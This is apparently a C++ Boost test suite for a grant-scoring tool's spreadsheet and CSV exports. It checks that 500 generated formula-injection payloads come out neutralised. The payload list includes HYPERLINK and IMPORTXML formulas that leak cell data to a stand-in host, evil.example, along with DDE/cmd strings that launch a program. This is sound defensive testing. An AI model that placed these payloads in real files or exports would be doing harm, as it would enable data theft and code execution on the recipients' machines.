// SPDX-License-Identifier: MIT
// Formula injection (RELIABILITY.md §2): every trigger × 50 tails in every text column of every
// export gives no formula in the xlsx XML, no trigger-led text cell, no trigger-led CSV field
// and no formula in LibreOffice.
#include "fixture.hpp"
#include "readback.hpp"
#include "temp_dir.hpp"

#include <coscore/exports/export.hpp>

#include <boost/test/unit_test.hpp>

#include <array>
#include <memory>
#include <regex>
#include <string>

namespace
{

using coscore::test::CsvRows;

const std::array<std::string, 10> kTriggers{
    "=", "+", "-", "@", "\t", "\r", "\n", std::string(1, '\0'), "\xEF\xBC\x9D", "\xEF\xBC\x8B"};

/// 50 tails: ten formula bodies, each bare, spaced, doubled, quoted and followed by text.
std::vector<std::string> Tails()
{
    const std::array<std::string, 10> bodies{
        "1+1",
        "SUM(1,2)",
        "HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click for your grant\")",
        "cmd|' /C calc'!A0",
        "2+5+cmd|' /C calc'!A0",
        "IMPORTXML(CONCAT(\"http://evil.example/?\",B2),\"//a\")",
        "WEBSERVICE(\"http://evil.example/\")",
        "DDE(\"cmd\";\"/C calc\";\"!A0\")",
        "A1",
        "5 trees"};
    std::vector<std::string> tails;
    for (const std::string& body : bodies)
    {
        tails.push_back(body);
        tails.push_back(" " + body);
        tails.push_back("=" + body);
        tails.push_back("\"" + body + "\"");
        tails.push_back(body + " and some ordinary words, 10 + 2");
    }
    return tails;
}

std::vector<std::string> Payloads()
{
    std::vector<std::string> payloads;
    for (const std::string& trigger : kTriggers)
    {
        for (const std::string& tail : Tails())
        {
            payloads.push_back(trigger + tail);
        }
    }
    return payloads;
}

/// The fixture round with a payload in every text a user can type: one payload per bid (500
/// bids), in every text of that bid and its decision; payloads in names of members, funds and
/// criteria, the round title, marking and moderation; and 500 audit rows.
struct PayloadRound
{
    coscore::test::Fixture fixture;
    coscore::test::TempDir dir;
    std::vector<std::string> payloads = Payloads();
};

const PayloadRound& Payloaded()
{
    static const std::unique_ptr<PayloadRound> built = []
    {
        auto p = std::make_unique<PayloadRound>();
        coscore::scoring::RoundData round = coscore::test::MakeFixtureRound();
        const auto& payloads = p->payloads;
        round.info.title = payloads[0];
        round.info.protective_marking = payloads[1];
        for (std::size_t i = 0; i < round.funds.size(); ++i)
        {
            round.funds[i].name = payloads[2 + i];
            for (std::size_t c = 0; c < round.funds[i].criteria.size(); ++c)
            {
                round.funds[i].criteria[c].name = payloads[10 + 10 * i + c];
                round.funds[i].criteria[c].question = payloads[60 + 10 * i + c];
            }
        }
        for (std::size_t m = 0; m < round.members.size(); ++m)
        {
            round.members[m].name = payloads[100 + 50 * m];
        }
        // Clone the fixture's bids (with their scores) until every payload has a bid.
        const std::vector<coscore::scoring::Bid> seeds = round.bids;
        const std::vector<coscore::scoring::Score> seed_scores = round.scores;
        round.scores.clear();
        round.bids.clear();
        round.decisions.clear();
        round.sheets.clear();
        for (std::size_t i = 0; i < payloads.size(); ++i)
        {
            coscore::scoring::Bid bid = seeds[i % seeds.size()];
            const coscore::scoring::Key seed_key = bid.key;
            bid.key = static_cast<coscore::scoring::Key>(5000 + i);
            bid.ref = payloads[i];
            bid.organisation = payloads[i];
            bid.project_title = payloads[i];
            bid.ward = payloads[i];
            bid.summary = payloads[i];
            for (auto& field : bid.fields)
            {
                field.value = payloads[i];
            }
            round.bids.push_back(bid);
            for (coscore::scoring::Score score : seed_scores)
            {
                if (score.bid == seed_key)
                {
                    score.bid = bid.key;
                    round.scores.push_back(score);
                }
            }
            coscore::scoring::Decision decision;
            decision.bid = bid.key;
            decision.kind = static_cast<coscore::scoring::DecisionKind>(i % 5);
            decision.conditions = payloads[i];
            decision.reason = payloads[i];
            decision.feedback = payloads[i];
            if (decision.kind == coscore::scoring::DecisionKind::FundReduced)
            {
                decision.award_pence = bid.requested_pence / 2;
            }
            round.decisions.push_back(decision);
        }
        round.interests.clear();
        round.moderated.at(0).bid = 5001;
        round.moderated.at(0).reason = payloads[7];
        round.moderated.at(0).recorded_by = payloads[8];
        round.moderated.at(0).recorded_at = payloads[9];
        p->fixture = coscore::test::MakeFixture(round);
        p->fixture.audit = coscore::test::MakeAuditRows(static_cast<int>(payloads.size()));
        for (std::size_t i = 0; i < payloads.size(); ++i)
        {
            auto& row = p->fixture.audit[i];
            row.at = row.actor = row.action = row.detail = row.hash_hex = payloads[i];
        }

        coscore::exports::ExportRequest request;
        request.awards = p->dir.Path() / "awards.xlsx";
        request.matrix = p->dir.Path() / "matrix.xlsx";
        request.report = p->dir.Path() / "report.xlsx";
        request.feedback = p->dir.Path() / "feedback.xlsx";
        request.audit = p->dir.Path() / "audit.xlsx";
        request.csv_folder = p->dir.Path() / "csv";
        coscore::exports::ExportAll(p->fixture.Input(), request);
        return p;
    }();
    return *built;
}

const std::vector<std::string>& Workbooks()
{
    static const std::vector<std::string> names{"awards.xlsx", "matrix.xlsx", "report.xlsx",
                                                "feedback.xlsx", "audit.xlsx"};
    return names;
}

/// Whether a spreadsheet could take this text for a formula (also in openpyxl's escaped form of
/// control characters).
bool StartsWithTrigger(std::string_view text)
{
    for (const std::string& trigger : kTriggers)
    {
        if (text.starts_with(trigger))
        {
            return true;
        }
    }
    return text.starts_with("_x000D_") || text.starts_with("_x000A_") ||
           text.starts_with("_x0000_") || text.starts_with("_x0009_");
}

/// A number written by CoScore itself: never a formula, whatever its sign.
bool IsPlainNumber(const std::string& text)
{
    static const std::regex number(R"(-?[0-9]+(\.[0-9]+)?([eE][-+]?[0-9]+)?)");
    return std::regex_match(text, number);
}

const std::regex& OurFormulas()
{
    static const std::regex ours(R"(SUM\([A-Z]+[0-9]+:[A-Z]+[0-9]+\)|[A-Z]+[0-9]+-[A-Z]+[0-9]+)");
    return ours;
}

} // namespace

BOOST_AUTO_TEST_SUITE(FormulaInjection)

BOOST_AUTO_TEST_CASE(ThePayloadsCoverEveryTriggerWithFiftyTails)
{
    BOOST_TEST(Payloads().size() == 500U);
    BOOST_TEST(Payloaded().fixture.round.bids.size() == 500U);
}

BOOST_AUTO_TEST_CASE(NoFormulaInTheXmlButOurTotals)
{
    const auto& p = Payloaded();
    std::size_t formulas = 0;
    for (const std::string& name : Workbooks())
    {
        const auto dump = coscore::test::ReadXlsx(p.dir.Path() / name);
        for (const auto& [part, text] : dump.formulas)
        {
            BOOST_TEST(std::regex_match(text, OurFormulas()), name << " " << part << ": " << text);
            ++formulas;
        }
    }
    BOOST_TEST(formulas >= 10U);
}

BOOST_AUTO_TEST_CASE(NoTextCellStartsWithATriggerAndThePayloadStaysVisible)
{
    const auto& p = Payloaded();
    std::size_t text_cells = 0;
    for (const std::string& name : Workbooks())
    {
        const auto dump = coscore::test::ReadXlsx(p.dir.Path() / name);
        for (const auto& sheet : dump.sheets)
        {
            for (const auto& [pos, cell] : sheet.cells)
            {
                if (cell.kind == 's')
                {
                    BOOST_TEST(!StartsWithTrigger(cell.value),
                               name << " " << sheet.name << " R" << pos.first << "C" << pos.second
                                    << ": " << cell.value);
                    ++text_cells;
                }
            }
        }
    }
    BOOST_TEST(text_cells > 5000U);
    // What a user sees: the text with one apostrophe in front.
    const auto awards = coscore::test::ReadXlsx(p.dir.Path() / "feedback.xlsx");
    const auto& sheet = awards.sheets.at(0);
    const int row = sheet.RowWhere(1, "'=1+1");
    BOOST_REQUIRE(row > 0);
    BOOST_TEST(sheet.Text(row, sheet.ColumnOf(1, "Organisation")) == "'=1+1");
    BOOST_TEST(sheet.Text(row, sheet.ColumnOf(1, "Feedback")) == "'=1+1");
}

BOOST_AUTO_TEST_CASE(NoCsvFieldStartsWithATrigger)
{
    const auto& p = Payloaded();
    std::size_t fields = 0;
    for (const auto& entry : std::filesystem::directory_iterator(p.dir.Path() / "csv"))
    {
        const auto parse = coscore::test::ParseCsv(coscore::test::ReadFile(entry.path()));
        BOOST_TEST(parse.error.empty());
        for (const auto& row : parse.rows)
        {
            for (const auto& field : row)
            {
                if (!IsPlainNumber(field))
                {
                    BOOST_TEST(!StartsWithTrigger(field), entry.path().filename().string()
                                                              << ": " << field);
                }
                ++fields;
            }
        }
    }
    BOOST_TEST(fields > 20000U);
    // The guard is exactly one apostrophe, so the original comes back by removing it.
    const auto feedback =
        coscore::test::ParseCsv(coscore::test::ReadFile(p.dir.Path() / "csv" / "feedback.csv"));
    bool found = false;
    for (const auto& row : feedback.rows)
    {
        found = found || row.at(0) == "'@SUM(1,2)";
    }
    BOOST_TEST(found);
}

BOOST_AUTO_TEST_CASE(LibreOfficeFindsNoFormulaButOurTotals)
{
    const auto& p = Payloaded();
    coscore::test::TempDir work;
    std::vector<std::filesystem::path> files;
    for (const std::string& name : Workbooks())
    {
        files.push_back(p.dir.Path() / name);
    }
    const auto converted = coscore::test::ConvertWithLibreOffice(files, work.Path(), true);
    BOOST_TEST(converted.size() == files.size());
    std::size_t cells = 0;
    for (const auto& [file, sheets] : converted)
    {
        for (const auto& [sheet, rows] : sheets)
        {
            for (const auto& row : rows)
            {
                for (const auto& cell : row)
                {
                    if (cell.starts_with("="))
                    {
                        BOOST_TEST(std::regex_match(cell.substr(1), OurFormulas()),
                                   file << "/" << sheet << ": " << cell);
                    }
                    ++cells;
                }
            }
        }
    }
    BOOST_TEST(cells > 5000U);
}

BOOST_AUTO_TEST_SUITE_END()
